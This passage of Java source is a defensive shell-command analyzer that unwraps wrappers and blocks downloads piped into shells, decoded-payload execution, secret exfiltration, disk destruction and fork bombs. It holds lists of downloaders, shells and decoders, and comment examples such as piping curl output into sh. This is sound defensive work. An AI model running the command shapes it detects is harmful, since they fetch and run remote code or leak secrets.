package dev.loopline.core.guard.command;

import java.util.HashMap;
import java.util.HashSet;
import java.util.IdentityHashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Set;

/**
 * Applies the rules to parsed commands. Wrappers ({@code sudo}, {@code env}, {@code xargs}, {@code sh -c},
 * {@code find -exec}, {@code eval}, git aliases…) are unwrapped so the rules see the command that really runs.
 * Stateless apart from the policy; every method is safe to call from many threads.
 */
final class CommandAnalyzer {
    private static final int NOT_A_WRAPPER = -1;
    private static final int NO_COMMAND = -2;

    private static final Set<String> SHELLS =
            Set.of("sh", "bash", "zsh", "dash", "ksh", "mksh", "ash", "fish", "csh", "tcsh", "yash", "rbash");
    private static final Set<String> INTERPRETERS = Set.of(
            "python",
            "python2",
            "python3",
            "pypy",
            "pypy3",
            "perl",
            "ruby",
            "node",
            "nodejs",
            "php",
            "deno",
            "bun",
            "pwsh",
            "powershell",
            "lua",
            "luajit",
            "osascript",
            "Rscript",
            "tclsh",
            "jshell",
            "groovy",
            "scala",
            "julia",
            "elixir",
            "erl",
            "escript",
            "swift",
            "kotlin");
    private static final Set<String> DOWNLOADERS =
            Set.of("curl", "wget", "fetch", "aria2c", "http", "https", "xh", "lwp-request", "GET", "ftp", "tftp");
    private static final Set<String> PROTECTED_BRANCHES = Set.of("main", "master", "trunk", "develop", "development");
    private static final Set<String> WIDE_MODES =
            Set.of("777", "0777", "1777", "2777", "4777", "a+rwx", "ugo+rwx", "a=rwx", "ugo=rwx", "o+w", "a+w");

    private static final Set<String> NO_LONG_OPTIONS = Set.of();
    private static final Set<String> COMMAND_CONFIG_KEYS = Set.of(
            "core.sshcommand",
            "core.pager",
            "core.editor",
            "core.fsmonitor",
            "sequence.editor",
            "diff.external",
            "gpg.program",
            "pager.log",
            "pager.diff",
            "pager.show");
    private static final String SSH_ARG_LETTERS = "BbcDEeFIiJLlmOoPpQRSWw";
    private static final Set<String> WATCH_LONG_OPTIONS = Set.of("--interval");
    private static final Set<String> SUDO_LONG_OPTIONS = Set.of(
            "--user",
            "--group",
            "--prompt",
            "--close-from",
            "--chdir",
            "--role",
            "--type",
            "--other-user",
            "--command-timeout",
            "--host",
            "--chroot");
    private static final Set<String> ENV_LONG_OPTIONS = Set.of("--unset", "--chdir", "--split-string");
    private static final Set<String> NICE_LONG_OPTIONS = Set.of("--adjustment");
    private static final Set<String> IONICE_LONG_OPTIONS = Set.of("--class", "--classdata", "--pid");
    private static final Set<String> STDBUF_LONG_OPTIONS = Set.of("--input", "--output", "--error");
    private static final Set<String> TIME_LONG_OPTIONS = Set.of("--format", "--output");
    private static final Set<String> TIMEOUT_LONG_OPTIONS = Set.of("--signal", "--kill-after");
    private static final Set<String> XARGS_LONG_OPTIONS = Set.of(
            "--arg-file",
            "--delimiter",
            "--max-args",
            "--max-procs",
            "--max-lines",
            "--eof",
            "--process-slot-var",
            "--max-chars");

    private final CommandPolicy policy;

    CommandAnalyzer(CommandPolicy policy) {
        this.policy = policy;
    }

    /** Returns the first block that the policy does not except, or null when the script may run. */
    Decision.Block checkScript(String script, int depth) {
        List<SimpleCommand> commands;
        try {
            commands = ShellParser.parse(script, depth);
        } catch (ParseException e) {
            return CommandRule.UNPARSEABLE.block(e.getMessage(), abbreviate(script));
        } catch (StackOverflowError e) {
            return CommandRule.UNPARSEABLE.block("nesting too deep", abbreviate(script));
        }
        return checkCommands(commands, depth);
    }

    private Decision.Block checkCommands(List<SimpleCommand> commands, int depth) {
        Map<List<SimpleCommand>, Boolean> seenPipelines = null;
        Variables vars = null;
        Map<SimpleCommand, SimpleCommand> resolved = null;
        Set<String> fetched = null;
        Decision.Block deferred = null;
        for (SimpleCommand parsed : commands) {
            SimpleCommand c = parsed;
            if (vars != null && !vars.isEmpty() && hasExpansion(parsed)) {
                c = vars.resolve(parsed);
                if (c != parsed) {
                    if (resolved == null) {
                        resolved = new IdentityHashMap<>();
                    }
                    resolved.put(parsed, c);
                }
            }
            if (!c.words.isEmpty()) {
                if (vars == null) {
                    Word first = c.words.get(0);
                    if (first.isAssignment()
                            || first.text().equals("export")
                            || first.text().equals("declare")
                            || first.text().equals("local")
                            || first.text().equals("readonly")
                            || first.text().equals("typeset")) {
                        vars = new Variables();
                        vars.record(c);
                    }
                } else {
                    vars.record(c);
                }
            }
            Decision.Block b = checkRedirects(c);
            if (b == null) {
                b = checkInvocation(c.words, 0, c, depth, null);
            }
            if (b == null) {
                b = checkForkBomb(c);
            }
            int k = unwrap(c.words, 0);
            String name = k < c.words.size() ? commandName(c.words.get(k)) : "";
            if (b == null && fetched != null) {
                b = checkRunsFetched(c, k, name, fetched);
            }
            if (b == null && c.inMultiPipeline()) {
                List<SimpleCommand> pipeline = c.pipeline;
                if (pipeline.get(pipeline.size() - 1) == parsed) {
                    if (seenPipelines == null) {
                        seenPipelines = new IdentityHashMap<>();
                    }
                    if (seenPipelines.put(pipeline, Boolean.TRUE) == null) {
                        b = checkPipeline(pipeline, resolved, depth);
                    }
                }
            } else if (b == null && (DOWNLOADERS.contains(name) || isDecoder(name, c.words, k))) {
                b = checkFeedsShell(c, DOWNLOADERS.contains(name), name);
            }
            if (b != null) {
                return b;
            }
            if (DOWNLOADERS.contains(name)
                    || isDecoder(name, c.words, k)
                    || (c.inMultiPipeline() && downloadedUpstream(parsed))) {
                if (fetched == null) {
                    fetched = new HashSet<>();
                }
                addDownloadTargets(c, k, fetched);
            }
            if (deferred == null && k < c.words.size()) {
                String cred = Exfiltration.credentialStoreRead(name, c.words, k, c);
                if (cred != null) {
                    deferred = report(CommandRule.SECRET_READ.block("reads " + cred, c.toString()));
                }
            }
        }
        return deferred;
    }

    private static boolean hasExpansion(SimpleCommand c) {
        for (Word w : c.words) {
            if (w.expansion()) {
                return true;
            }
        }
        for (Redirect r : c.redirects) {
            if (r.target().expansion()) {
                return true;
            }
        }
        return false;
    }

    private Decision.Block report(Decision.Block b) {
        return b == null || policy.excepts(b) ? null : b;
    }

    // ---------------------------------------------------------------- structure-level rules

    private Decision.Block checkRedirects(SimpleCommand c) {
        for (Redirect r : c.redirects) {
            if (r.body() == null && Paths.isRemoteSocket(r.target().text())) {
                Decision.Block b = report(
                        CommandRule.RAW_SOCKET.block("redirect to " + r.target().text(), describe(c, r)));
                if (b != null) {
                    return b;
                }
            }
            if (!r.writesFile()) {
                continue;
            }
            String target = r.target().text();
            if (Paths.isBlockDevice(target)) {
                Decision.Block b = report(CommandRule.DISK_DESTROY.block("redirect into " + target, describe(c, r)));
                if (b != null) {
                    return b;
                }
            }
            if (Paths.isSecret(target)) {
                Decision.Block b = report(CommandRule.SECRET_WRITE.block("redirect into " + target, describe(c, r)));
                if (b != null) {
                    return b;
                }
            }
        }
        return null;
    }

    private static String describe(SimpleCommand c, Redirect r) {
        String words = c.toString();
        return (words.isEmpty() ? "" : words + " ") + r.op() + " " + r.target().text();
    }

    private Decision.Block checkForkBomb(SimpleCommand c) {
        if (c.enclosingFunction == null || c.words.isEmpty()) {
            return null;
        }
        if (c.words.get(0).text().equals(c.enclosingFunction) && (c.inMultiPipeline() || c.background)) {
            return report(
                    CommandRule.FORK_BOMB.block(c.enclosingFunction + "() calls itself in a pipeline", c.toString()));
        }
        return null;
    }

    /**
     * Follows what flows down a pipeline: a download, decoded or transformed text, the output of
     * {@code echo}/{@code printf}, or secrets; and what each stage does with its input (run it, send it).
     */
    private Decision.Block checkPipeline(
            List<SimpleCommand> pipeline, Map<SimpleCommand, SimpleCommand> resolved, int depth) {
        boolean downloaded = false;
        String decoded = null;
        String secret = null;
        String generated = null;
        for (SimpleCommand parsed : pipeline) {
            SimpleCommand stage = resolved == null ? parsed : resolved.getOrDefault(parsed, parsed);
            int i = unwrap(stage.words, 0);
            if (i < 0 || i >= stage.words.size()) {
                if (secret == null && Exfiltration.printsEnvironment(stage)) {
                    secret = "the environment";
                }
                generated = null;
                continue;
            }
            List<Word> w = stage.words;
            String name = commandName(w.get(i));
            if (secret != null && Exfiltration.isSink(name)) {
                return report(CommandRule.SECRET_EXFILTRATION.block(
                        "pipes " + secret + " into " + name, joinPipeline(pipeline)));
            }
            boolean runsInput = readsScriptFromStdin(name, w, i) || (viaXargs(w, i) && runsCode(name));
            if (runsInput) {
                if (downloaded) {
                    return report(
                            CommandRule.REMOTE_CODE_EXEC.block("download piped into " + name, joinPipeline(pipeline)));
                }
                if (decoded != null) {
                    return report(CommandRule.OBFUSCATED_EXEC.block(
                            decoded + " output piped into " + name, joinPipeline(pipeline)));
                }
                if (generated != null) {
                    Decision.Block b = SHELLS.contains(name) || name.equals("source") || name.equals(".")
                            ? checkNested(generated, depth)
                            : checkCode(interpreterName(name), generated, depth, joinPipeline(pipeline));
                    if (b != null) {
                        return b;
                    }
                }
            }
            if ((downloaded || decoded != null) && feedsShell(stage)) {
                return report((downloaded ? CommandRule.REMOTE_CODE_EXEC : CommandRule.OBFUSCATED_EXEC)
                        .block("output fed to a shell through >(...)", joinPipeline(pipeline)));
            }
            List<SimpleCommand> members = stage.group != null ? stage.group : List.of(stage);
            for (SimpleCommand m : members) {
                SimpleCommand member = m == parsed ? stage : m;
                int k = m == parsed ? i : unwrap(m.words, 0);
                if (k >= member.words.size()) {
                    continue;
                }
                String memberName = commandName(member.words.get(k));
                if (secret == null) {
                    secret = Exfiltration.secretOutput(memberName, member.words, k, member);
                }
                if (DOWNLOADERS.contains(memberName) || readsDownload(member)) {
                    downloaded = true;
                } else if (decoded == null && isDecoder(memberName, member.words, k)) {
                    decoded = memberName;
                }
            }
            generated = stage.group != null ? null : generatedScript(name, stage, i);
        }
        return null;
    }

    /** {@code cat <(curl …)}: a stage that reads a download through a process substitution. */
    private static boolean readsDownload(SimpleCommand c) {
        for (Word w : c.words) {
            if (w.text().startsWith("<(") && hasDownloader(w.substituted())) {
                return true;
            }
        }
        for (Redirect r : c.redirects) {
            if (hasDownloader(r.target().substituted())) {
                return true;
            }
        }
        return false;
    }

    /** {@code curl url > >(sh)}, {@code base64 -d x | tee >(bash)}: a process substitution that runs its input. */
    private Decision.Block checkFeedsShell(SimpleCommand c, boolean download, String name) {
        if (!feedsShell(c)) {
            return null;
        }
        return report((download ? CommandRule.REMOTE_CODE_EXEC : CommandRule.OBFUSCATED_EXEC)
                .block(name + " output fed to a shell through >(...)", c.toString()));
    }

    private static boolean feedsShell(SimpleCommand c) {
        for (Word w : c.words) {
            if (w.text().startsWith(">(") && runsStdinIn(w.substituted())) {
                return true;
            }
        }
        for (Redirect r : c.redirects) {
            if (r.target().text().startsWith(">(") && runsStdinIn(r.target().substituted())) {
                return true;
            }
        }
        return false;
    }

    private static boolean runsStdinIn(List<SimpleCommand> subs) {
        for (SimpleCommand s : subs) {
            int k = unwrap(s.words, 0);
            if (k < s.words.size() && readsScriptFromStdin(commandName(s.words.get(k)), s.words, k)) {
                return true;
            }
        }
        return false;
    }

    private static boolean viaXargs(List<Word> w, int i) {
        for (int j = 0; j < i; j++) {
            if (commandName(w.get(j)).equals("xargs")) {
                return true;
            }
        }
        return false;
    }

    private static boolean runsCode(String name) {
        return SHELLS.contains(name)
                || interpreterName(name) != null
                || name.equals("eval")
                || name.equals("source")
                || name.equals(".");
    }

    private static final Set<String> TRANSFORMERS = Set.of(
            "rev",
            "tr",
            "uudecode",
            "gunzip",
            "zcat",
            "gzcat",
            "bunzip2",
            "bzcat",
            "xzcat",
            "unxz",
            "unzstd",
            "zstdcat",
            "sed",
            "awk",
            "gawk",
            "mawk",
            "nawk",
            "perl",
            "iconv",
            "recode",
            "unlzma",
            "lzcat",
            "brotli");

    /** A stage that turns its input into other text: base64/xxd decoding, reversing, rot13, decompression, sed. */
    static boolean isDecoder(String name, List<Word> w, int i) {
        if (TRANSFORMERS.contains(name)) {
            return true;
        }
        switch (name) {
            case "base64", "base32", "basenc", "gbase64", "b64" -> {
                for (int j = i + 1; j < w.size(); j++) {
                    String a = w.get(j).text();
                    if (a.equals("--decode")
                            || a.equals("-D")
                            || (a.startsWith("-") && !a.startsWith("--") && a.indexOf('d') > 0)) {
                        return true;
                    }
                }
                return false;
            }
            case "xxd" -> {
                for (int j = i + 1; j < w.size(); j++) {
                    String a = w.get(j).text();
                    if (a.equals("--revert") || (a.startsWith("-") && !a.startsWith("--") && a.indexOf('r') > 0)) {
                        return true;
                    }
                }
                return false;
            }
            case "openssl", "gzip", "bzip2", "xz", "zstd", "lzma", "gpg" -> {
                for (int j = i + 1; j < w.size(); j++) {
                    String a = w.get(j).text();
                    if (a.equals("-d")
                            || a.equals("--decompress")
                            || a.equals("--decrypt")
                            || a.equals("-base64")
                            || a.equals("base64")
                            || a.equals("enc")) {
                        return true;
                    }
                }
                return false;
            }
            default -> {
                return false;
            }
        }
    }

    private static boolean downloadedUpstream(SimpleCommand parsed) {
        for (SimpleCommand s : parsed.pipeline) {
            if (s == parsed) {
                return false;
            }
            int k = unwrap(s.words, 0);
            if (k < s.words.size()
                    && (DOWNLOADERS.contains(commandName(s.words.get(k)))
                            || isDecoder(commandName(s.words.get(k)), s.words, k))) {
                return true;
            }
        }
        return false;
    }

    /** Files a download (or a stage downstream of one) writes: {@code -o f}, {@code -O}, {@code > f}, {@code tee f}. */
    private static void addDownloadTargets(SimpleCommand c, int k, Set<String> fetched) {
        List<Word> w = c.words;
        boolean tee = k < w.size() && commandName(w.get(k)).equals("tee");
        for (int j = k + 1; j < w.size(); j++) {
            String a = w.get(j).text();
            if (tee && !a.startsWith("-")) {
                fetched.add(normalise(a));
            } else if (a.equals("-o")
                    || a.equals("-O")
                    || a.equals("--output")
                    || a.equals("--output-document")
                    || (a.startsWith("-") && !a.startsWith("--") && a.length() > 2 && a.endsWith("o"))) {
                if (j + 1 < w.size()) {
                    fetched.add(normalise(w.get(j + 1).text()));
                }
            } else if (a.startsWith("--output=") || a.startsWith("--output-document=")) {
                fetched.add(normalise(a.substring(a.indexOf('=') + 1)));
            } else if (a.startsWith("-o") && a.length() > 2 && !a.startsWith("--")) {
                fetched.add(normalise(a.substring(2)));
            } else {
                int scheme = a.indexOf("://");
                if (scheme > 0) {
                    String path = a;
                    int q = path.indexOf('?');
                    path = q >= 0 ? path.substring(0, q) : path;
                    int slash = path.lastIndexOf('/');
                    if (slash > scheme + 2 && slash < path.length() - 1) {
                        fetched.add(path.substring(slash + 1));
                    }
                }
            }
        }
        for (Redirect r : c.redirects) {
            if (r.writesFile()) {
                fetched.add(normalise(r.target().text()));
            }
        }
    }

    private static String normalise(String path) {
        String p = path;
        while (p.startsWith("./")) {
            p = p.substring(2);
        }
        return p;
    }

    /** {@code curl -o x.sh … && sh x.sh}, {@code && ./x.sh}, {@code && source x.sh}: runs a file just downloaded. */
    private Decision.Block checkRunsFetched(SimpleCommand c, int k, String name, Set<String> fetched) {
        if (fetched.isEmpty() || k >= c.words.size()) {
            return null;
        }
        List<Word> w = c.words;
        String ran = null;
        String word = w.get(k).text();
        if (word.indexOf('/') >= 0 && fetched.contains(normalise(word))) {
            ran = word;
        } else if (runsCode(name)) {
            for (int j = k + 1; j < w.size(); j++) {
                String a = w.get(j).text();
                if (fetched.contains(normalise(a))) {
                    ran = a;
                    break;
                }
            }
        }
        return ran == null
                ? null
                : report(CommandRule.REMOTE_CODE_EXEC.block(
                        "runs the file just downloaded or decoded: " + ran, c.toString()));
    }

    /** Text a stage prints that the next stage may run: {@code echo ... | sh}, {@code cat <<EOF | bash}. */
    private static String generatedScript(String name, SimpleCommand stage, int i) {
        List<Word> w = stage.words;
        switch (name) {
            case "echo" -> {
                int j = i + 1;
                boolean escapes = false;
                while (j < w.size()
                        && w.get(j).text().startsWith("-")
                        && w.get(j).text().length() > 1) {
                    escapes |= w.get(j).text().indexOf('e') > 0;
                    j++;
                }
                String text = join(w, j);
                return escapes ? unescape(text) : text;
            }
            case "printf" -> {
                return i + 1 < w.size() ? printf(w, i + 1) : null;
            }
            case "cat" -> {
                for (Redirect r : stage.redirects) {
                    if (r.body() != null) {
                        return r.body();
                    }
                }
                return null;
            }
            default -> {
                return null;
            }
        }
    }

    /** What {@code printf FORMAT ARGS…} prints: {@code %s}/{@code %b} take the arguments, escapes are decoded. */
    static String printf(List<Word> w, int from) {
        int j = from;
        if (w.get(j).text().equals("--")) {
            j++;
        }
        if (j < w.size() && w.get(j).text().equals("-v")) {
            return null; // assigns to a variable, prints nothing
        }
        if (j >= w.size()) {
            return null;
        }
        String format = w.get(j).text();
        int arg = j + 1;
        StringBuilder out = new StringBuilder();
        int rounds = 0;
        do {
            for (int k = 0; k < format.length(); k++) {
                char c = format.charAt(k);
                if (c == '%' && k + 1 < format.length()) {
                    int e = k + 1;
                    while (e < format.length() && "-+ #0123456789.".indexOf(format.charAt(e)) >= 0) {
                        e++;
                    }
                    if (e < format.length() && format.charAt(e) == '%') {
                        out.append('%');
                    } else if (e < format.length()) {
                        String a = arg < w.size() ? w.get(arg++).text() : "";
                        out.append(format.charAt(e) == 'b' ? unescape(a) : a);
                    }
                    k = e;
                } else {
                    out.append(c);
                }
            }
        } while (arg < w.size() && ++rounds < 64);
        return unescape(out.toString());
    }

    /** Decodes the backslash escapes of {@code printf} and {@code echo -e}: {@code \xHH}, {@code \NNN}, {@code \n}… */
    static String unescape(String s) {
        if (s.indexOf('\\') < 0) {
            return s;
        }
        StringBuilder out = new StringBuilder(s.length());
        for (int k = 0; k < s.length(); k++) {
            char c = s.charAt(k);
            if (c != '\\' || k + 1 >= s.length()) {
                out.append(c);
                continue;
            }
            char n = s.charAt(++k);
            switch (n) {
                case 'n' -> out.append('\n');
                case 't' -> out.append('\t');
                case 'r' -> out.append('\r');
                case '\\' -> out.append('\\');
                case 'x' -> {
                    int v = 0;
                    int d = 0;
                    while (d < 2 && k + 1 < s.length() && Character.digit(s.charAt(k + 1), 16) >= 0) {
                        v = v * 16 + Character.digit(s.charAt(++k), 16);
                        d++;
                    }
                    out.append(d == 0 ? "\\x" : String.valueOf((char) v));
                }
                case 'u', 'U' -> {
                    int v = 0;
                    int d = 0;
                    int max = n == 'u' ? 4 : 8;
                    while (d < max && k + 1 < s.length() && Character.digit(s.charAt(k + 1), 16) >= 0) {
                        v = v * 16 + Character.digit(s.charAt(++k), 16);
                        d++;
                    }
                    if (d == 0 || !Character.isValidCodePoint(v)) {
                        out.append('\\').append(n);
                    } else {
                        out.appendCodePoint(v);
                    }
                }
                default -> {
                    if (n >= '0' && n <= '7') {
                        int v = n - '0';
                        int d = 1;
                        while (d < 4 && k + 1 < s.length() && s.charAt(k + 1) >= '0' && s.charAt(k + 1) <= '7') {
                            v = v * 8 + (s.charAt(++k) - '0');
                            d++;
                        }
                        out.append((char) (v & 0xff));
                    } else {
                        out.append('\\').append(n);
                    }
                }
            }
        }
        return out.toString();
    }

    private static String joinPipeline(List<SimpleCommand> pipeline) {
        StringBuilder sb = new StringBuilder();
        for (SimpleCommand c : pipeline) {
            if (sb.length() > 0) {
                sb.append(" | ");
            }
            sb.append(c);
        }
        return sb.toString();
    }

    private static boolean readsScriptFromStdin(String name, List<Word> w, int i) {
        if (name.equals("source") || name.equals(".")) {
            return i + 1 < w.size() && isStdinPath(w.get(i + 1).text());
        }
        boolean shell = SHELLS.contains(name);
        if (!shell && interpreterName(name) == null) {
            return false;
        }
        for (int j = i + 1; j < w.size(); j++) {
            String a = w.get(j).text();
            if (a.equals("-")) {
                return true;
            }
            if (a.equals("--")) {
                return j + 1 >= w.size()
                        || w.get(j + 1).text().equals("-")
                        || isStdinPath(w.get(j + 1).text());
            }
            if (a.startsWith("-") && a.length() > 1) {
                if (shell && !a.startsWith("--")) {
                    if (a.indexOf('c') > 0) {
                        return false;
                    }
                    if (a.indexOf('s') > 0) {
                        return true;
                    }
                    if (a.equals("-o") || a.equals("-O")) {
                        j++;
                    }
                } else if (!shell
                        && (a.equals("-c")
                                || a.equals("-m")
                                || a.equals("-e")
                                || a.equals("-E")
                                || a.equals("-r")
                                || a.equals("-p")
                                || a.equals("--eval")
                                || a.equals("-Command"))) {
                    return false;
                }
                continue;
            }
            return isStdinPath(a); // a script file argument
        }
        return true;
    }

    private static boolean isStdinPath(String a) {
        return a.equals("/dev/stdin") || a.equals("/dev/fd/0") || a.equals("/proc/self/fd/0");
    }

    /** The interpreter family of {@code name} ({@code python3.12} is {@code python}), or null. */
    static String interpreterName(String name) {
        if (INTERPRETERS.contains(name)) {
            return name;
        }
        int end = name.length();
        while (end > 0 && (Character.isDigit(name.charAt(end - 1)) || name.charAt(end - 1) == '.')) {
            end--;
        }
        if (end == name.length() || end == 0) {
            return null;
        }
        String base = name.substring(0, end);
        return INTERPRETERS.contains(base) ? base : null;
    }

    // ---------------------------------------------------------------- invocation-level rules

    static String commandName(Word w) {
        String t = w.text();
        int slash = t.lastIndexOf('/');
        return slash >= 0 && slash < t.length() - 1 ? t.substring(slash + 1) : t;
    }

    private static int skipAssignments(List<Word> w, int i) {
        while (i < w.size() && w.get(i).isAssignment()) {
            i++;
        }
        return i;
    }

    /** Index of the command that finally runs after assignments and simple wrappers; size() when none. */
    static int unwrap(List<Word> w, int i) {
        while (true) {
            i = skipAssignments(w, i);
            if (i >= w.size()) {
                return i;
            }
            int next = wrapped(commandName(w.get(i)), w, i);
            if (next == NOT_A_WRAPPER) {
                return i;
            }
            if (next == NO_COMMAND) {
                return w.size();
            }
            i = next;
        }
    }

    /**
     * Where the operands of a command run by {@code xargs} or {@code find -exec} come from.
     *
     * @param local whether every path it can receive lies inside the worktree
     * @param placeholder the word replaced by the input ({@code {}}), or null
     * @param appends whether the input is appended as extra operands (xargs without {@code -I})
     */
    record Feed(boolean local, String placeholder, boolean appends) {}

    private Decision.Block checkInvocation(List<Word> w, int i, SimpleCommand origin, int depth, Feed feed) {
        String name;
        while (true) {
            i = skipAssignments(w, i);
            if (i >= w.size()) {
                return null;
            }
            name = commandName(w.get(i));
            Decision.Block denied = checkPolicyDeny(name, w, i);
            if (denied != null) {
                return denied;
            }
            if (name.equals("env")) {
                String split = envSplitString(w, i);
                if (split != null) {
                    return checkNested(split, depth);
                }
            }
            int next = wrapped(name, w, i);
            if (next == NOT_A_WRAPPER) {
                break;
            }
            if (next == NO_COMMAND) {
                return null;
            }
            if (name.equals("xargs")) {
                feed = xargsFeed(w, i, next, origin);
                w = fedWords(w, next, feed);
            }
            i = next;
        }
        Word nameWord = w.get(i);
        if (nameWord.expansion() && Variables.hasExpansion(nameWord.text())) {
            return checkDynamicName(w, i, origin, depth, feed);
        }
        if (Exfiltration.isSink(name)) {
            Decision.Block b = checkSink(name, w, i, origin);
            if (b != null) {
                return b;
            }
        }
        if (DiskTools.isDiskTool(name)) {
            String why = DiskTools.destroys(name, w, i);
            return why == null ? null : report(CommandRule.DISK_DESTROY.block(why, join(w, i)));
        }
        return switch (name) {
            case "git" -> checkGit(w, i + 1, depth);
            case "rm" -> checkRm(w, i);
            case "find" -> checkFind(w, i, origin, depth);
            case "chmod", "chown", "chgrp" -> checkPermissions(name, w, i);
            case "dd" -> checkDd(w, i);
            case "tee" -> checkTee(w, i);
            case "cp", "mv", "install", "ln", "rsync" -> checkCopyTarget(w, i);
            case "eval" -> checkEval(w, i, depth);
            case "source", "." -> checkSourced(w, i, origin, depth);
            case "alias" -> checkAlias(w, i, depth);
            case "watch" -> checkWatch(w, i, depth);
            case "ssh" -> checkSsh(w, i, depth);
            case "awk", "gawk", "mawk", "nawk", "busybox-awk" -> checkAwk(w, i, depth);
            case "trap" -> {
                // `trap 'cmd' EXIT` runs cmd later in the same shell
                int j = i + 1 < w.size() && w.get(i + 1).text().equals("--") ? i + 2 : i + 1;
                boolean listing = j >= w.size() || w.get(j).text().startsWith("-");
                yield listing ? null : checkNested(w.get(j).text(), depth);
            }
            default -> {
                if (SHELLS.contains(name)) {
                    yield checkShell(name, w, i, origin, depth);
                }
                String interpreter = interpreterName(name);
                if (interpreter != null) {
                    yield checkInterpreter(interpreter, w, i, origin, depth);
                }
                yield null;
            }
        };
    }

    /** Tools whose printed output is shell code meant for {@code eval "$(tool …)"}: an ordinary setup idiom. */
    private static final Set<String> ENV_SETUP_TOOLS = Set.of(
            "ssh-agent",
            "gpg-agent",
            "keychain",
            "pyenv",
            "rbenv",
            "nodenv",
            "jenv",
            "goenv",
            "plenv",
            "direnv",
            "brew",
            "dircolors",
            "conda",
            "mamba",
            "micromamba",
            "starship",
            "zoxide",
            "fnm",
            "mise",
            "rtx",
            "opam",
            "luarocks",
            "thefuck",
            "atuin",
            "sdkman",
            "gh",
            "kubectl",
            "helm",
            "npm",
            "pip",
            "rustup",
            "poetry",
            "register-python-argcomplete",
            "op",
            "aws-vault",
            "pipenv",
            "nvm");

    /**
     * A command whose name is an expansion. Resolved names were substituted before; what is left cannot be
     * known statically and is blocked, except a literal program name after the last slash
     * ({@code $JAVA_HOME/bin/java}), a function's own arguments ({@code "$@"}), and {@code $(tool …)} of the
     * shell-setup tools.
     */
    private Decision.Block checkDynamicName(List<Word> w, int i, SimpleCommand origin, int depth, Feed feed) {
        Word word = w.get(i);
        String t = word.text();
        List<SimpleCommand> subs = word.substituted();
        Decision.Block fromSource = checkSubstitutedSource(subs, "command name", join(w, i));
        if (fromSource != null) {
            return fromSource;
        }
        int slash = t.lastIndexOf('/');
        if (slash >= 0 && subs.isEmpty() && isProgramName(t.substring(slash + 1))) {
            List<Word> literal = new java.util.ArrayList<>(w);
            literal.set(i, Word.literal(t.substring(slash + 1)));
            return checkInvocation(literal, i, origin, depth, feed);
        }
        if (origin != null && origin.enclosingFunction != null && isPositional(t)) {
            return null;
        }
        if (isSubstitutionOnly(t) && !subs.isEmpty()) {
            String known = Variables.knownSubstitution(subs);
            if (known != null && !known.equals(Variables.TEMP_DIR)) {
                // the output is split into words and run: check it as the command line it becomes
                return checkNested(known + " " + join(w, i + 1), depth);
            }
            boolean setup = true;
            for (SimpleCommand c : subs) {
                int k = unwrap(c.words, 0);
                setup &= k < c.words.size() && ENV_SETUP_TOOLS.contains(commandName(c.words.get(k)));
            }
            if (setup) {
                return null;
            }
        }
        return report(CommandRule.DYNAMIC_COMMAND.block(t, join(w, i)));
    }

    private static boolean isProgramName(String s) {
        if (s.isEmpty()) {
            return false;
        }
        for (int k = 0; k < s.length(); k++) {
            char c = s.charAt(k);
            if (!(Character.isLetterOrDigit(c) || c == '.' || c == '_' || c == '-' || c == '+')) {
                return false;
            }
        }
        return true;
    }

    private static boolean isPositional(String t) {
        String p = t.startsWith("${") && t.endsWith("}")
                ? t.substring(2, t.length() - 1)
                : t.startsWith("$") ? t.substring(1) : t;
        if (p.equals("@") || p.equals("*")) {
            return true;
        }
        for (int k = 0; k < p.length(); k++) {
            if (!Character.isDigit(p.charAt(k))) {
                return false;
            }
        }
        return !p.isEmpty();
    }

    private static boolean isSubstitutionOnly(String t) {
        return (t.startsWith("$(") && t.endsWith(")")) || (t.startsWith("`") && t.endsWith("`"));
    }

    /** Downloaded text is remote code, decoded text obfuscated code, wherever a shell is given it to run. */
    private Decision.Block checkSubstitutedSource(List<SimpleCommand> subs, String what, String command) {
        if (subs.isEmpty()) {
            return null;
        }
        if (hasDownloader(subs)) {
            return report(CommandRule.REMOTE_CODE_EXEC.block("downloaded " + what, command));
        }
        for (SimpleCommand c : subs) {
            int k = unwrap(c.words, 0);
            if (k < c.words.size() && isDecoder(commandName(c.words.get(k)), c.words, k)) {
                return report(CommandRule.OBFUSCATED_EXEC.block("decoded " + what, command));
            }
        }
        return null;
    }

    private static Feed xargsFeed(List<Word> w, int xargs, int command, SimpleCommand origin) {
        String placeholder = null;
        for (int j = xargs + 1; j < command; j++) {
            String a = w.get(j).text();
            if (a.equals("-I") && j + 1 < command) {
                placeholder = w.get(j + 1).text();
            } else if (a.startsWith("-I") && a.length() > 2) {
                placeholder = a.substring(2);
            } else if (a.startsWith("--replace")) {
                placeholder = a.indexOf('=') > 0 ? a.substring(a.indexOf('=') + 1) : "{}";
            } else if (a.equals("-i")) {
                placeholder = "{}";
            }
        }
        return new Feed(producesLocalPaths(origin), placeholder == null ? "{}" : placeholder, placeholder == null);
    }

    /** What a fed path stands for in the analysis: the file system root when the search may leave the worktree. */
    private static String representative(Feed feed) {
        return feed.local() ? "feed.item" : "/";
    }

    /**
     * The words of the command that {@code xargs} or {@code find -exec} runs, with the input paths made visible:
     * the placeholder ({@code {}}) replaced, or for plain xargs one path appended. Rules then judge the paths
     * as they judge literal ones, also inside {@code sh -c '…{}…'}.
     */
    private static List<Word> fedWords(List<Word> w, int from, Feed feed) {
        String path = representative(feed);
        List<Word> out = new java.util.ArrayList<>(w.size() + 1);
        for (int j = 0; j < w.size(); j++) {
            Word word = w.get(j);
            String t = word.text();
            if (j >= from
                    && feed.placeholder() != null
                    && !feed.placeholder().isEmpty()
                    && t.contains(feed.placeholder())) {
                out.add(new Word(
                        t.replace(feed.placeholder(), path),
                        word.quoted(),
                        word.firstQuoted(),
                        word.expansion(),
                        word.substituted()));
            } else {
                out.add(word);
            }
        }
        if (feed.appends()) {
            out.add(Word.literal(path));
        }
        return out;
    }

    /** True when the stage before {@code origin} lists only paths inside the worktree (find ., git ls-files). */
    private static boolean producesLocalPaths(SimpleCommand origin) {
        if (origin == null || !origin.inMultiPipeline()) {
            return false;
        }
        SimpleCommand parsed = origin.parsed();
        List<SimpleCommand> p = parsed.pipeline;
        int at = -1;
        for (int j = 0; j < p.size(); j++) {
            if (p.get(j) == parsed) {
                at = j;
            }
        }
        if (at <= 0) {
            return false;
        }
        SimpleCommand prev = p.get(at - 1);
        int k = unwrap(prev.words, 0);
        if (k >= prev.words.size()) {
            return false;
        }
        List<Word> w = prev.words;
        String name = commandName(w.get(k));
        switch (name) {
            case "find" -> {
                return findFeedsLocal(w, k);
            }
            case "git" -> {
                String sub = k + 1 < w.size() ? w.get(k + 1).text() : "";
